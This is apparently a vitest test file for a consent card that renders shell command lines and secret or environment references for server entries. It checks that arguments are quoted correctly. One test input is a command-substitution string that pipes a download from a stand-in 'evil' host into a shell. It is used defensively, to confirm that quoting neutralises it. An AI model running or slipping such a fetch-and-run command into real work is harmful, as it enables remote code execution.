import { describe, expect, it } from 'vitest';
import { commandLine, quoteArg, referenceLines, subjectLine } from './consent-text';

describe("the consent card's command line", () => {
  it('quotes only what a shell would split or expand, so the line is exactly what runs', () => {
    expect(quoteArg('--port=8080')).toBe('--port=8080');
    expect(quoteArg('/usr/bin/node')).toBe('/usr/bin/node');
    expect(quoteArg('two words')).toBe("'two words'");
    expect(quoteArg('')).toBe("''");
    expect(quoteArg("it's")).toBe("'it'\\''s'");
    expect(quoteArg('$(curl evil | sh)')).toBe("'$(curl evil | sh)'");
    expect(commandLine({ command: 'npx', args: ['-y', 'some server', ''] })).toBe("npx -y 'some server' ''");
  });
});

describe("the consent card's other lines", () => {
  it('shows a remote entry by its URL and references by name only', () => {
    expect(subjectLine({ url: 'https://mcp.example.com/mcp' })).toBe('https://mcp.example.com/mcp');
    expect(subjectLine({ command: 'node', args: ['s.js'], cwd: null, env: [] })).toBe('node s.js');
    expect(referenceLines({ Authorization: ['${secret:github.TOKEN}'], X: ['${env:A}', '${input:b}'] })).toEqual([
      'Authorization ← ${secret:github.TOKEN}',
      'X ← ${env:A} ${input:b}',
    ]);
    expect(referenceLines(undefined)).toEqual([]);
  });
});
